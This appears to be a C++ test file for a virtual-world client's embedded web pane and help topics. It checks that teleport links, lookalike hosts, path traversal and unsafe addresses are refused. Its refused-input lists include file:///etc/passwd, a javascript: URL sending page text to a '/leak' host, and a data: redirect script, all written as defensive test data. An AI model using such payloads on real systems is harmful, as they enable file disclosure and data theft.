// The web pane's logic through the program's own start-up rows: teleport links taken over,
// pending addresses, the menu items, the hand-off to the desktop's browser; and the help
// topics read from their file.
#include <algorithm>
#include <cstring>

#include "client/cache/download.h"
#include "client/core/dialog.h"
#include "client/shell/console.h"
#include "client/servers/prompt.h"
#include "tests/web/web_fixture.h"

using namespace webtest;

namespace {

std::string teleport_of(const char* url) {
  char out[256];
  return web_teleport_command(url, out, sizeof out) ? out : "(followed)";
}

class WebPane : public WebFixture {};

TEST_F(WebPane, TeleportLinksAreTakenOverOnlyOnTheConfiguredHostsCgiPath) {
  testutil::write_file(dir + "/tessel.ini", "[web]\nhost=Pages.Example:8080\n");
  profile_init(dir.c_str(), "/tessel.ini");
  EXPECT_EQ("teleport demo 10n 20e", teleport_of("http://pages.example:8080/cgi-bin/teleport?demo_10n_20e"));
  EXPECT_EQ("teleport demo 10n 20e 5a 90",
            teleport_of("https://PAGES.EXAMPLE:8080/cgi-bin/go/teleport?demo_10n_20e_5a_90#top"));
  // The other host keeps its default.
  EXPECT_EQ("teleport x 1n 1w", teleport_of("http://www.veldara.net/cgi-bin/teleport?x_1n_1w"));
  const char* followed[] = {
      "http://pages.example/cgi-bin/teleport?demo_10n_20e",            // port differs
      "http://pages.example:8080.evil.test/cgi-bin/teleport?demo",     // host only begins alike
      "http://evil.test/pages.example:8080/cgi-bin/teleport?demo",     // host in the path
      "http://evil.test/?u=pages.example:8080/cgi-bin/teleport?demo",  // host in the query
      "http://pages.example:8080/docs/cgi-bin/teleport?demo",          // cgi-bin not at the root
      "http://pages.example:8080/cgi-bin/teleports?demo",              // another page
      "http://pages.example:8080/cgi-bin/xteleport?demo",
      "http://pages.example:8080/cgi-bin/teleport",                    // no query
      "http://pages.example:8080/cgi-bin/page?to=teleport?demo",       // in the query only
      "http://pages.example:8080/CGI-BIN/teleport?demo_10n_20e",       // the path has its own case
      "http://pages.example:8080/cgi-bin/Teleport?demo_10n_20e",
      "ftp://pages.example:8080/cgi-bin/teleport?demo",
      "http://www.veldara.com.evil.test/cgi-bin/teleport?demo",
  };
  for (const char* url : followed) EXPECT_EQ("(followed)", teleport_of(url)) << url;
}

TEST_F(WebPane, FollowingATeleportLinkTeleportsAndTheNavigationIsCancelled) {
  ASSERT_NO_FATAL_FAILURE(start("[web]\nhost=127.0.0.1:8000\n"));
  ASSERT_NE(nullptr, browser);
  ASSERT_NO_FATAL_FAILURE(be_in("home"));
  // An ordinary page is followed and becomes the current one while it loads.
  EXPECT_EQ(1, web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:8000/demo/web/home.html"));
  EXPECT_EQ(1, web_is_busy());
  EXPECT_TRUE(menu_is_enabled(136));
  EXPECT_EQ(1, web_event(WEB_NAVIGATE_COMPLETE, "http://127.0.0.1:8000/demo/web/home.html"));
  EXPECT_EQ(0, web_is_busy());
  EXPECT_FALSE(menu_is_enabled(136));

  EXPECT_EQ(0, web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:8000/cgi-bin/teleport?demo_10n_20e"));
  EXPECT_STREQ("http://127.0.0.1:8000/demo/web/home.html", web_current_url());
  behavior_update();
  ASSERT_NE(nullptr, teleport_waiting_name());
  EXPECT_STREQ("demo", teleport_waiting_name());
  float x, y, z, yaw;
  teleport_target(&x, &y, &z, &yaw);
  EXPECT_FLOAT_EQ(-20.0f, x);
  EXPECT_FLOAT_EQ(10.0f, z);

  // A page an object opened on its own (the world's home page) does not run its teleport.
  teleport_reset_state();
  EXPECT_EQ(1, web_navigate("http://127.0.0.1:8000/cgi-bin/teleport?far_1n_1w", 1));
  EXPECT_EQ("navigate http://127.0.0.1:8000/cgi-bin/teleport?far_1n_1w", browser->log.back());
  EXPECT_EQ(0, web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:8000/cgi-bin/teleport?far_1n_1w"));
  behavior_update();
  EXPECT_EQ(nullptr, teleport_waiting_name());
  // The skip lasts for that one navigation.
  EXPECT_EQ(0, web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:8000/cgi-bin/teleport?far_1n_1w"));
  behavior_update();
  EXPECT_STREQ("far", teleport_waiting_name());

  // The page's own script, redirect or frame moves no one; the person's click does.
  teleport_reset_state();
  for (int code : {WEB_BEFORE_PAGE_NAVIGATE, WEB_BEFORE_FRAME_NAVIGATE}) {
    EXPECT_EQ(0, web_event(code, "http://127.0.0.1:8000/cgi-bin/teleport?far_77n_66e")) << code;
    behavior_update();
    EXPECT_EQ(nullptr, teleport_waiting_name()) << code;
  }
  EXPECT_EQ(0, web_event(WEB_BEFORE_CLICKED_NAVIGATE, "http://127.0.0.1:8000/cgi-bin/teleport?near_2n_3w"));
  behavior_update();
  EXPECT_STREQ("near", teleport_waiting_name());
  EXPECT_STREQ("http://127.0.0.1:8000/demo/web/home.html", web_current_url());
}

// Whatever brings an address (an object's action, the world's home page, a sign's or an
// object's address, a page's link, the person typing), only a web page reaches the pane and
// only a web or news address the desktop; anything else is named once on the console.
TEST_F(WebPane, OnlyWebAddressesFromOutsideAreFollowed) {
  write_help("local.html", "<p>here</p>");
  write_help("other.html", "<p>there</p>");
  ASSERT_NO_FATAL_FAILURE(start());
  ASSERT_NE(nullptr, browser);
  console_init(nullptr);
  const std::string secret = "file://" + dir + "/tessel.ini";
  const char* refused[] = {
      secret.c_str(), "file:///etc/passwd", "FILE:///etc/hostname", "/etc/hostname", "etc/hostname",
      "javascript:void(location='http://127.0.0.1:1/leak?'+encodeURIComponent(document.body.innerText))",
      "data:text/html,<script>location='http://127.0.0.1:1/leak'</script>", "http:/etc/passwd", "http:///etc/passwd",
      "about:blank", "view-source:http://pages.example/", "http://pages.example/%zz", "--help"};
  ScriptedDialogs dialogs;
  for (const char* url : refused) {
    browser->log.clear();
    behavior_post((std::string("url ") + url).c_str());  // an object the person clicked
    behavior_update();
    world_hook.web_navigate(url, 1);                     // the world's home page
    EXPECT_EQ(0, web_open_action(url)) << url;           // an object's address
    EXPECT_EQ(0, web_navigate(url, 1)) << url;           // an object on its own
    for (int code : {WEB_BEFORE_NAVIGATE, WEB_BEFORE_CLICKED_NAVIGATE, WEB_BEFORE_PAGE_NAVIGATE,
                     WEB_BEFORE_FRAME_NAVIGATE})
      EXPECT_EQ(0, web_event(code, url)) << url << " " << code;
    // Typed: the usual reading makes a path a file address, which goes no further either.
    if (url[0] == '/' || (std::strchr(url, ':') && std::strncmp(url, "http", 4) != 0)) {
      dialogs.add(PROMPT_DIALOG, {[url](ScriptedView& v) {
                                    v.type(PROMPT_EDIT, url);
                                    v.press(DIALOG_OK);
                                  }});
      menu_handle(138);
    }
    EXPECT_TRUE(browser->log.empty()) << url << ": " << browser->log.front();
    // One line names it, however often it came.
    std::string console = console_text();
    size_t at = console.find(std::string("m246:\t") + url);
    EXPECT_NE(std::string::npos, at) << url << " in " << console;
    if (at != std::string::npos) {
      EXPECT_EQ(std::string::npos, console.find(std::string("m246:\t") + url, at + 1)) << url;
    }
  }
  console_reset_for_test();
  EXPECT_STREQ("", web_current_url());
  EXPECT_EQ(0, web_is_busy());

  // Web pages go on as written; a host typed alone is a web page.
  browser->log.clear();
  world_hook.web_navigate("HTTP://Pages.Example/home.html", 1);
  behavior_post("url https://pages.example/a?b=1#c");
  behavior_update();
  dialogs.add(PROMPT_DIALOG, {[](ScriptedView& v) {
                                v.type(PROMPT_EDIT, "pages.example/typed.html");
                                v.press(DIALOG_OK);
                              }});
  menu_handle(138);
  EXPECT_EQ((std::vector<std::string>{"navigate http://pages.example/home.html", "navigate https://pages.example/a?b=1#c",
                                      "navigate http://pages.example/typed.html"}),
            browser->log);
  // A news address goes to the desktop at the person's word only.
  EXPECT_EQ(0, web_navigate("news:tessel.chat", 1));
  EXPECT_EQ(1, web_open_action("news:tessel.talk"));
  EXPECT_EQ((std::vector<std::string>{"news:tessel.talk"}), opened_runs(1));

  // Help pages reach each other; a web page reaches none of them.
  const std::string local = "file://" + dir + "/help/local.html", other = "file://" + dir + "/help/other.html";
  EXPECT_EQ(0, web_navigate(local.c_str(), 0));
  EXPECT_EQ(1, web_event(WEB_BEFORE_PAGE_NAVIGATE, "http://pages.example/x.html"));
  EXPECT_EQ(0, web_event(WEB_BEFORE_CLICKED_NAVIGATE, other.c_str()));
  EXPECT_EQ(1, web_navigate_help(local.c_str()));
  EXPECT_EQ("navigate " + local, browser->log.back());
  EXPECT_EQ(1, web_event(WEB_BEFORE_NAVIGATE, local.c_str()));
  EXPECT_EQ(1, web_event(WEB_BEFORE_CLICKED_NAVIGATE, other.c_str()));
  EXPECT_EQ(0, web_event(WEB_BEFORE_CLICKED_NAVIGATE, ("file://" + dir + "/help/../tessel.ini").c_str()));
  EXPECT_EQ(0, web_navigate_help("file:///etc/passwd"));
}

TEST_F(WebPane, TheMenuFollowsThePaneAndItsCommandsReachTheBrowser) {
  ASSERT_NO_FATAL_FAILURE(start("[show]\nweb=0\n"));
  EXPECT_EQ(0, web_visible());
  EXPECT_FALSE(menu_is_checked(130));
  for (int id = 134; id <= 138; ++id) EXPECT_FALSE(menu_is_enabled(id)) << id;
  EXPECT_TRUE(menu_is_enabled(130));
  EXPECT_EQ(nullptr, browser);
  // With the pane closed an object's page waits for it.
  EXPECT_EQ(1, web_navigate("http://pages.example/world.html", 1));

  menu_handle(130);
  ASSERT_NE(nullptr, browser);
  EXPECT_EQ(1, web_visible());
  EXPECT_TRUE(menu_is_checked(130));
  for (int id : {134, 135, 137, 138}) EXPECT_TRUE(menu_is_enabled(id)) << id;
  EXPECT_FALSE(menu_is_enabled(136));  // nothing loading
  EXPECT_EQ((std::vector<std::string>{"show 1", "navigate http://pages.example/world.html"}), browser->log);
  EXPECT_NE(std::string::npos, testutil::read_file(dir + "/tessel.ini").find("web=1"));

  browser->log.clear();
  for (int id : {134, 135, 136, 137}) menu_handle(id);
  EXPECT_EQ((std::vector<std::string>{"command 11", "command 12", "command 14", "command 13"}), browser->log);
  web_size(476, 0, 164, 480);
  EXPECT_EQ("move 476 0 164 480", browser->log.back());

  // Open... asks for an address, offering the current one; a cancelled prompt opens nothing.
  web_event(WEB_BEFORE_NAVIGATE, "http://pages.example/world.html");
  web_event(WEB_NAVIGATE_COMPLETE, "http://pages.example/world.html");
  ScriptedDialogs dialogs;
  dialogs.add(PROMPT_DIALOG, {[](ScriptedView& v) {
                                EXPECT_EQ(msg(174), v.title());
                                EXPECT_EQ(msg(175), v.control(PROMPT_LABEL).text);
                                EXPECT_EQ("http://pages.example/world.html", v.control(PROMPT_EDIT).text);
                                v.type(PROMPT_EDIT, "http://pages.example/typed.html");
                                v.press(DIALOG_OK);
                              }});
  dialogs.add(PROMPT_DIALOG, {[](ScriptedView& v) { v.press(DIALOG_CANCEL); }});
  browser->log.clear();
  menu_handle(138);
  menu_handle(138);
  EXPECT_EQ((std::vector<std::string>{"navigate http://pages.example/typed.html"}), browser->log);

  menu_handle(130);
  EXPECT_EQ(0, web_visible());
  EXPECT_EQ("show 0", browser->log.back());
  EXPECT_NE(std::string::npos, testutil::read_file(dir + "/tessel.ini").find("web=0"));
  EXPECT_FALSE(menu_is_enabled(134));
  EXPECT_TRUE(boxes.boxes().empty());
}

TEST_F(WebPane, WithoutABrowserControlAddressesGoToTheDesktopsBrowser) {
  web_set_container_maker(nullptr);
  ASSERT_NO_FATAL_FAILURE(start());
  EXPECT_EQ(0, web_visible());
  for (int id = 134; id <= 138; ++id) EXPECT_FALSE(menu_is_enabled(id)) << id;
  // Opening the pane tells the user once, the quiet open (help) does not.
  menu_handle(130);
  ASSERT_EQ(1u, boxes.boxes().size());
  EXPECT_STREQ(msg(86), boxes.boxes()[0].text.c_str());
  web_toggle(1);
  EXPECT_EQ(1u, boxes.boxes().size());
  EXPECT_EQ(0, web_visible());

  EXPECT_EQ(0, web_navigate("", 0));
  EXPECT_EQ(1, web_navigate("http://pages.example/kept.html", 1));  // kept, not handed out
  EXPECT_STREQ("http://pages.example/kept.html", web_current_url());
  EXPECT_EQ(1, web_navigate("http://pages.example/one.html", 0));
  EXPECT_EQ(1, web_navigate("NEWS:tessel.chat", 0));
  // An object's action text that is an address goes the same way; others do not.
  EXPECT_EQ(1, web_open_action("https://pages.example/two.html?a=1&b=2"));
  EXPECT_EQ(0, web_open_action("sound:bell.wav"));
  EXPECT_EQ(0, web_open_action("activate url x"));
  EXPECT_EQ(0, web_open_action(""));
  // Nothing but web and news addresses leaves the program.
  for (const char* refused : {"file:///etc/passwd", "javascript:alert(1)", "--help", "/tmp/x.html", "http://",
                              "http://pages.example/a\nb", "mailto:someone@example", "http://pages.example/a b",
                              "http://pages.example/a\tb", "https://pages.example/\x01x", "news:a\x7f"})
    EXPECT_EQ(0, web_navigate(refused, 0)) << refused;
  // Each run is a process of its own: they may finish in any order.
  std::vector<std::string> runs = opened_runs(3);
  std::sort(runs.begin(), runs.end());
  EXPECT_EQ((std::vector<std::string>{"http://pages.example/one.html", "https://pages.example/two.html?a=1&b=2",
                                      "news:tessel.chat"}),
            runs);
}

TEST_F(WebPane, ObjectPagesAndTheWorldsHomePageReachThePane) {
  ASSERT_NO_FATAL_FAILURE(start());
  ASSERT_NE(nullptr, browser);
  browser->log.clear();
  // The action language's url command, as a user's own command.
  behavior_post("url http://pages.example/object.html");
  behavior_update();
  EXPECT_EQ((std::vector<std::string>{"navigate http://pages.example/object.html"}), browser->log);
  EXPECT_EQ(1, web_open_action("http://pages.example/sign.html"));
  EXPECT_EQ("navigate http://pages.example/sign.html", browser->log.back());
  // The world's home page (attribute 20) is opened without running its teleports.
  ASSERT_NE(nullptr, world_hook.web_navigate);
  world_hook.web_navigate("http://127.0.0.1:1/cgi-bin/teleport?w_1n_1w", 1);
  testutil::write_file(dir + "/tessel.ini", "[web]\nhost=127.0.0.1:1\n");
  profile_init(dir.c_str(), "/tessel.ini");
  EXPECT_EQ(0, web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:1/cgi-bin/teleport?w_1n_1w"));
  behavior_update();
  EXPECT_EQ(nullptr, teleport_waiting_name());
  EXPECT_TRUE(opened_runs(0).empty());
}

// A page that failed to load is loaded again, once, when its server is back, unless the
// person has gone on to another page.
TEST_F(WebPane, APageThatFailedIsLoadedAgainWhenItsServerIsBack) {
  ASSERT_NO_FATAL_FAILURE(start());
  ASSERT_TRUE(browser && download_hook.server_back);
  for (const char* next : {"http://pages.example/a.html", "http://127.0.0.1:8000/w/home.html"}) {
    web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:8000/w/home.html");
    web_event(WEB_NAVIGATE_FAILED, "http://127.0.0.1:8000/w/home.html");
    web_event(WEB_BEFORE_NAVIGATE, next);
    browser->log.clear();
    for (const char* host : {"127.0.0.1:8001", "127.0.0.1:8000", "127.0.0.1:8000"}) download_hook.server_back(host);
    EXPECT_EQ(std::strstr(next, "8000") ? 1u : 0u, browser->log.size()) << next;
  }
}

class HelpTopics : public WebFixture {};

TEST_F(HelpTopics, TheTreeFollowsTheFileAndItsFallBack) {
  write_help("default.tzh",
             "topic \"Getting Started\"\n"
             "  Welcome Welcome.HTML\n"
             "  \"Quoted Title\" \"Keep.HTML\"\n"
             "  help_with_help \"Using Help\" usinghelp.html\n"
             "  topic Inner\n"
             "    Deep deep.html\n"
             "  endtopic\n"
             "  lonely\n"
             "endtopic\n"
             "Outside outside.html\n"
             "help_with_registration Register register.html\n");
  write_help("other.tzh", "topic Other\n  page other.html\nendtopic\n");
  // Two more languages; only the first has help topics of its own.
  testutil::write_file(dir + "/Messages/other.tzm", "68 other\n");
  testutil::write_file(dir + "/Messages/missing.tzm", "68 missing\n");
  ASSERT_NO_FATAL_FAILURE(start());
  EXPECT_EQ((std::vector<std::string>{"Getting Started", "Getting Started/welcome",
                                      "Getting Started/Quoted Title", "Getting Started/Using Help",
                                      "Getting Started/inner", "Getting Started/inner/deep"}),
            tree_.paths());
  EXPECT_EQ(0, tree_.find("outside"));  // outside every folder
  EXPECT_STREQ("welcome.html", help_item_link(tree_.find("welcome")));
  EXPECT_STREQ("Keep.HTML", help_item_link(tree_.find("Quoted Title")));
  EXPECT_STREQ("", help_item_link(tree_.find("Getting Started")));
  EXPECT_STREQ("usinghelp.html", help_with_help_link());
  EXPECT_STREQ("register.html", help_registration_link());
  EXPECT_TRUE(menu_is_enabled(148));
  EXPECT_TRUE(menu_is_enabled(142));
  EXPECT_EQ(HELP_IMAGE_FOLDER, tree_.items[0].image);
  EXPECT_EQ(HELP_IMAGE_PAGE, tree_.items[1].image);

  // A language with its own file, then one without: default.tzh again.
  msg_switch("other");
  EXPECT_EQ((std::vector<std::string>{"other", "other/page"}), tree_.paths());
  EXPECT_FALSE(menu_is_enabled(148));
  EXPECT_FALSE(menu_is_enabled(142));
  msg_switch("missing");
  EXPECT_EQ(6u, tree_.paths().size());
  EXPECT_TRUE(menu_is_enabled(148));
}

TEST_F(HelpTopics, NestingBeyondTheTableAndStrayEndMarkersAreRefused) {
  std::string text = "endtopic\n";
  for (int i = 1; i <= 12; ++i) text += "topic f" + std::to_string(i) + "\n";
  text += "  p12 p12.html\n";
  for (int i = 12; i >= 10; --i) text += "endtopic\n";
  text += "  p9 p9.html\n";
  for (int i = 9; i >= 1; --i) text += "endtopic\n";
  text += "endtopic\nendtopic\ntopic after\n  q q.html\nendtopic\n";
  text += "topic long\n  \"" + std::string(300, 'x') + "\" cut.html\n  fine fine.html\nendtopic\n";
  write_help("default.tzh", text);
  ASSERT_NO_FATAL_FAILURE(start());
  std::vector<std::string> paths = tree_.paths();
  std::string nine = "f1/f2/f3/f4/f5/f6/f7/f8/f9";
  std::vector<std::string> expect;
  std::string p;
  for (int i = 1; i <= 10; ++i) expect.push_back(p += (i > 1 ? "/f" : "f") + std::to_string(i));
  expect.push_back(nine + "/p9");
  expect.push_back("after");
  expect.push_back("after/q");
  expect.push_back("long");
  expect.push_back("long/fine");
  EXPECT_EQ(expect, paths);
  EXPECT_FALSE(menu_is_enabled(148));
}

TEST_F(HelpTopics, PagesOpenInThePaneLocallyOrFromTheHelpHost) {
  write_help("default.tzh",
             "topic Start\n  local local.html\n  remote remote.html\n  web http://pages.example/x.html\n"
             "  up ../tessel.ini\n  deep sub/../../tessel.ini\nendtopic\n"
             "help_with_help h local.html\n");
  write_help("local.html", "<p>here</p>");
  mkdir((dir + "/help/sub").c_str(), 0755);
  ASSERT_NO_FATAL_FAILURE(start("[show]\nweb=0\n[web]\nhost=help.example\nhelp_path=/docs/\n"));
  EXPECT_EQ(0, web_visible());
  choose("local");  // the page is not shown yet
  EXPECT_EQ(nullptr, browser);
  menu_handle(105);  // Help Topics: the help page comes to the front
  EXPECT_TRUE(tree_.shown);
  choose("local");
  ASSERT_NE(nullptr, browser);
  EXPECT_EQ(1, web_visible());
  EXPECT_EQ("navigate file://" + dir + "/help/local.html", browser->log.back());
  choose("remote");
  EXPECT_EQ("navigate http://help.example/docs/remote.html", browser->log.back());
  choose("web");
  EXPECT_EQ("navigate http://pages.example/x.html", browser->log.back());
  // A link never reaches outside the help folder.
  choose("up");
  EXPECT_EQ("navigate http://help.example/docs/../tessel.ini", browser->log.back());
  // Nor does a parent step further in.
  choose("deep");
  EXPECT_EQ("navigate http://help.example/docs/sub/../../tessel.ini", browser->log.back());
  choose("start");  // a folder opens nothing
  EXPECT_EQ("navigate http://help.example/docs/sub/../../tessel.ini", browser->log.back());
  // Folders show the open image while expanded.
  help_item_expanded(tree_.find("start"), true);
  EXPECT_EQ(HELP_IMAGE_OPEN, tree_.items[0].image);
  help_item_expanded(tree_.find("start"), false);
  EXPECT_EQ(HELP_IMAGE_FOLDER, tree_.items[0].image);
  menu_handle(148);
  EXPECT_EQ("navigate file://" + dir + "/help/local.html", browser->log.back());
  EXPECT_TRUE(boxes.boxes().empty());
}

// A FIFO as a topic file or as a page would hold the window thread until a writer came: the
// topics fall back to the default file, and the page is taken from the help host.
TEST_F(HelpTopics, AFifoAsATopicFileOrAPageHoldsNothingUp) {
  write_help("default.tzh", "topic Start\n  pipe pipe.html\nendtopic\n");
  testutil::write_file(dir + "/Messages/other.tzm", "68 other\n");
  const std::string topics = dir + "/help/other.tzh", page = dir + "/help/pipe.html";
  ASSERT_EQ(0, mkfifo(topics.c_str(), 0600));
  ASSERT_EQ(0, mkfifo(page.c_str(), 0600));
  testutil::FifoRelease release({topics, page});
  ASSERT_NO_FATAL_FAILURE(start("[web]\nhost=help.example\n"));
  msg_switch("other");
  EXPECT_EQ((std::vector<std::string>{"start", "start/pipe"}), tree_.paths());
  menu_handle(105);
  choose("pipe");
  ASSERT_NE(nullptr, browser);
  EXPECT_EQ("navigate http://help.example/help/pipe.html", browser->log.back());
  EXPECT_FALSE(release.stop()) << "the window thread waited on a FIFO";
}

TEST_F(HelpTopics, WithoutABrowserControlLocalPagesAreRefusedWithAMessage) {
  web_set_container_maker(nullptr);
  write_help("default.tzh", "topic Start\n  local local.html\n  remote remote.html\nendtopic\n");
  write_help("local.html", "<p>here</p>");
  ASSERT_NO_FATAL_FAILURE(start("[web]\nhost=help.example\n"));
  menu_handle(105);  // Help Topics: the help page comes to the front
  choose("local");
  ASSERT_EQ(1u, boxes.boxes().size());
  EXPECT_STREQ(msg(239), boxes.boxes()[0].text.c_str());
  choose("remote");
  EXPECT_EQ((std::vector<std::string>{"http://help.example/help/remote.html"}), opened_runs(1));
  EXPECT_EQ(1u, boxes.boxes().size());
}

}  // namespace
